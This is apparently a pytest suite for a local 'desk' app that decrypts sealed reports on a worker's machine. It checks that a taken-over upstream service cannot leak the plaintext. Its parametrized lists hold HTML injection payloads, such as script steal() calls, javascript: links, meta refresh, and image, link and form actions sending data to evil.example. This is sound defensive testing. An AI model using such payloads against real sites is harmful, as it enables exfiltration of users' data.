"""The desk on a worker's own machine: it shows every word, and the service never has one."""

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from pyrage import x25519
from starlette.testclient import TestClient

from app.models.base import format_utc
from app.models.clients import Scope
from app.pages.desk.local_pages import LocalPages
from app.pages.desk.sealed_text import SealedText
from app.server.local_desk import LocalDesk
from app.services.access.clients import add_client
from app.services.concerns.sealing import Unsealer, make_sealer
from tests.support.canaries import CANARY
from tests.support.clock import A_TUESDAY
from tests.support.desk import Desk
from tests.support.people import OWN_PAGE, received
from tests.support.waiting import LONG_ENOUGH

pytestmark = pytest.mark.any_database

REFERENCE, ANOTHER = "4F7K-926W-0X37", "8WX8-4WYM-9ZWZ"  # the same in every process that collects the tests
PAGE = f"/desk/concerns/{REFERENCE}"
ORIGIN = "http://127.0.0.1:8123"
IDENTITY = x25519.Identity.generate()


def sealed_element(kind: str = "addition", *, reference: str = REFERENCE, **document: Any) -> str:
    """Return the element of a page, with a text that was sealed to this machine's identity."""
    at = format_utc(A_TUESDAY)
    fields = {"reference": REFERENCE, "received_at": at} | document
    fields |= {} if document else {"addition": {"concern": {"narrative": f"{CANARY} <b>came</b> home"}}}
    sealed = make_sealer([str(IDENTITY.to_public())]).seal(json.dumps(fields).encode())
    armored = SealedText(kind, reference, 1, A_TUESDAY, sealed).armored
    return (
        f'<div class="sealed" data-sealed="{kind}" data-reference="{reference}" data-number="1" '
        f'data-received-at="{at}">\n<template class="ciphertext">{armored}</template>\n'
        '<p class="quiet">Sealed. This service cannot read it.</p>\n</div>'
    )


def no_labels(_guide: str, _edition: int) -> Any:
    raise AssertionError("only a concern has labels")


def shown(page: str, *identities: x25519.Identity, reference: str | None = REFERENCE) -> str:
    return LocalPages(Unsealer(identities or (IDENTITY,)), no_labels).open(page, reference=reference)


def test_a_sealed_text_is_shown_as_text_where_it_stands() -> None:
    page = shown(f"<main><h2>What was added</h2>{sealed_element()}</main>")

    assert f"{CANARY} &lt;b&gt;came&lt;/b&gt; home" in page
    assert page.index("What was added") < page.index(CANARY)
    assert "cannot read it" not in page


@pytest.mark.parametrize(
    "hostile",
    [
        "<form method=post action=/desk/x><textarea name=reason>{}",
        "<form><select name=reason><option selected>{}</option></select></form>",
        "<form><select name=reason><option selected><button>{}",
        '<a href="https://evil.example/?{}">look</a>',
        "<img src='https://evil.example/?{}",
        "<!-- {} -->",
        "<title>{}</title>",
        "<style>{}</style>",
        "<script>{}</script>",
        "<noscript>{}</noscript>",
        "<iframe>{}</iframe>",
        "<xmp>{}</xmp>",
        "<plaintext>{}",
        "<template>{}</template>",
        "<input name=reason value='{}'>",
        "<math><annotation-xml encoding=text/html>{}",
    ],
)
def test_a_service_that_was_taken_over_cannot_catch_the_words(hostile: str) -> None:
    page = shown(hostile.replace("{}", sealed_element()) + "<button>Send</button>")

    for caught in re.findall(r"<(?:textarea|select|option|iframe|xmp|style|title)\b.*?(?:</|$)", page, re.DOTALL):
        assert CANARY not in caught
    for attribute in re.findall(r"=\"[^\"]*\"|='[^']*'", page):
        assert CANARY not in attribute
    assert "evil.example/?" not in page or CANARY not in page


def test_scripts_styles_and_foreign_forms_of_the_service_do_not_reach_the_browser() -> None:
    page = shown(
        "<body onload=x()><script>steal()</script><style>p{}</style><link rel=stylesheet href=//evil.example>"
        "<meta http-equiv=refresh content='0;url=//evil.example'><p style='x:y' onclick=steal()>Text</p>"
        "<a href='javascript:steal()'>a</a><form action=//evil.example></form>"
        "<form action=/desk/x><button formaction=//evil.example>b</button></form>"
    )

    own = shown('<form action="/desk"><button formmethod="post" formaction="/desk/views">Save</button></form>')
    assert 'formaction="/desk/views"' in own
    assert "Text" in page
    assert not re.search(r"steal|evil|onclick|onload|formaction|p\{\}|x:y", page)
    assert page.count("<script") == 1


def test_a_page_has_the_title_of_the_service_s_own_as_text_and_nothing_is_left_of_a_chart() -> None:
    chart = "<figure><svg></svg><figcaption>Bars</figcaption></figure>"
    page = shown(f"<title>Day &amp; &lt;b&gt;night</title>{chart}<p>Text")
    titled = shown(f"<title>{sealed_element()}</title><p>Text")

    assert "<title>Day &amp; &lt;b&gt;night</title>" in page
    assert "<p>Text</p>" in page
    assert "Bars" not in page
    assert "<title>Desk</title>" in titled


@pytest.mark.parametrize(
    ("element", "reference"),
    [
        (sealed_element(), ANOTHER),
        (sealed_element(), None),
        (sealed_element("note"), REFERENCE),
        (sealed_element(reference=ANOTHER), REFERENCE),
        (sealed_element(received_at="2020-01-01T00:00:00Z", addition={"concern": {"narrative": CANARY}}), REFERENCE),
        (re.sub("-----BEGIN.*?-----END", "-----BEGIN\n!\n-----END", sealed_element(), flags=re.DOTALL), REFERENCE),
    ],
)
def test_a_text_at_another_place_than_its_own_is_not_shown(element: str, reference: str | None) -> None:
    page = shown(element, reference=reference)

    assert CANARY not in page
    assert "This text is not shown." in page


def test_another_identity_is_told_calmly() -> None:
    page = shown(sealed_element(), x25519.Identity.generate())

    assert CANARY not in page
    assert "Your identity does not open this." in page
    assert "another identity" in page


@contextmanager
def local_desk(answer: Any) -> Iterator[tuple[TestClient, list[httpx.Request]]]:
    """A desk whose service gives that answer, in a browser that has opened it; and what the service was sent."""
    sent: list[httpx.Request] = []

    def respond(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        result: httpx.Response = answer
        return result

    transport = httpx.MockTransport(respond)
    headers = {"Authorization": "Bearer omg_key"}
    with httpx.Client(
        base_url="https://service.example", headers=headers, transport=transport, timeout=LONG_ENOUGH
    ) as service:
        desk = LocalDesk(service, LocalPages(Unsealer((IDENTITY,)), no_labels))
        browser = TestClient(desk.asgi(ORIGIN), base_url=ORIGIN, follow_redirects=False)
        assert browser.get(desk.first_path).headers["location"] == "/desk"
        yield browser, sent


def a_page() -> httpx.Response:
    return httpx.Response(200, html=f"<main>{sealed_element()}</main>", headers={"Set-Cookie": "desk=theirs"})


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"Host": "localhost:8123"},
        {"Host": "127.0.0.1:80"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Cookie": "local-desk=guessed"},
        {"Cookie": ""},
    ],
)
def test_another_page_another_host_name_and_a_browser_without_the_cookie_get_nothing(headers: dict[str, str]) -> None:
    with local_desk(a_page()) as (browser, sent):
        assert CANARY in browser.get(PAGE, headers={"Sec-Fetch-Site": "none"}).text
        if "Cookie" in headers:
            browser.cookies.clear()

        refused = browser.get(PAGE, headers=headers)

    assert refused.status_code == 403
    assert CANARY not in refused.text
    assert len(sent) == 1


@pytest.mark.parametrize(
    "headers", [{}, {"Origin": "null"}, {"Origin": "https://evil.example"}, {"Origin": f"{ORIGIN}0"}]
)
def test_an_act_that_another_page_sends_is_not_passed_on(headers: dict[str, str]) -> None:
    with local_desk(httpx.Response(303, headers={"Location": PAGE})) as (browser, sent):
        refused = browser.post(f"{PAGE}/acknowledgement", headers=headers)
        own = browser.post(f"{PAGE}/acknowledgement", data={"up_to_addition": "2"}, headers={"Origin": ORIGIN})

    assert (refused.status_code, own.status_code, own.headers["location"]) == (403, 303, PAGE)
    assert [each.content for each in sent] == [b"up_to_addition=2"]
    assert sent[0].headers["sec-fetch-site"] == "same-origin"


def test_answers_are_stored_nowhere_load_nothing_from_elsewhere_and_carry_no_cookie_of_the_service() -> None:
    with local_desk(a_page()) as (browser, sent):
        answer = browser.get(PAGE, headers={"Sec-Fetch-Site": "none"})
        looks = browser.get("/looks/desk.js")

    policy = answer.headers["content-security-policy"]
    assert answer.headers["cache-control"] == "no-store"
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "set-cookie" not in answer.headers
    assert looks.headers["content-type"].startswith("text/javascript")
    assert "cookie" not in sent[0].headers
    assert str(IDENTITY) not in repr([(each.url, each.headers, each.content) for each in sent])


def test_the_first_address_works_once_and_none_works_after_closing() -> None:
    answering = httpx.MockTransport(lambda _: a_page())
    with httpx.Client(base_url="https://service.example", transport=answering, timeout=LONG_ENOUGH) as service:
        desk = LocalDesk(service, LocalPages(Unsealer((IDENTITY,)), no_labels))
        app, first = desk.asgi(ORIGIN), desk.first_path
        browser, other = (TestClient(app, base_url=ORIGIN, follow_redirects=False) for _ in range(2))
        opened = browser.get(first)
        again = other.get(first)
        closed = browser.post("/desk/sign-out", headers=OWN_PAGE)
        after = browser.get(PAGE)

    assert "HttpOnly" in opened.headers["set-cookie"]
    assert "SameSite=strict" in opened.headers["set-cookie"]
    assert [each.status_code for each in (opened, again, closed, after)] == [303, 403, 200, 403]


@pytest.mark.parametrize(
    ("location", "status"),
    [
        (f"https://service.example{PAGE}", 303),
        ("/desk?show=overdue", 303),
        (f"{PAGE}?seen=3#notes", 303),
        ("/desk/sign-in", 403),
        ("https://evil.example/desk", 502),
        ("//evil.example/desk", 502),
        ("/v1/desk/concerns", 502),
    ],
)
def test_a_redirect_leads_to_a_page_of_the_desk_here_or_nowhere(location: str, status: int) -> None:
    with local_desk(httpx.Response(303, headers={"Location": location})) as (browser, _):
        answer = browser.get("/desk/find")

    assert answer.status_code == status
    assert answer.headers.get("location") in (None, location.removeprefix("https://service.example"))


def test_the_pages_take_the_key_of_a_person_and_record_the_name(
    service: FastAPI, client: TestClient, desk: Desk, a_concern: Any
) -> None:
    reference = received(client, a_concern)
    keys = {
        person: add_client(
            service.state.context.writer, name=name, scopes=[Scope.READ, Scope.WRITE], person=person, at=A_TUESDAY
        )
        for name, person in (("robin", "Robin Example"), ("system", None))
    }
    page = f"/desk/concerns/{reference}"

    def call(method: str, path: str, headers: dict[str, str]) -> int:
        form = {"up_to_addition": "0"} if method == "POST" else None
        status: int = client.request(method, path, headers=headers, data=form, follow_redirects=False).status_code
        return status

    robin, system = ({"Authorization": f"Bearer {key}"} for key in keys.values())

    assert call("GET", page, robin) == 200
    assert call("POST", f"{page}/acknowledgement", robin | OWN_PAGE) == 303
    assert call("POST", f"{page}/acknowledgement", robin | {"Sec-Fetch-Site": "cross-site"}) == 403
    assert call("GET", page, system) == 303  # to the sign-in
    assert call("GET", page, {"Authorization": f"Basic {keys['Robin Example']}"}) == 303
    assert call("GET", page, {"Cookie": f"desk={keys['Robin Example']}"}) == 303
    rows = desk.get(f"/disclosures?chain={reference}").json()["disclosures"]
    assert [(row["client"], row["act"]) for row in rows[1:]] == [
        ("robin/Robin Example", "opened"),
        ("robin/Robin Example", "acknowledged"),
    ]
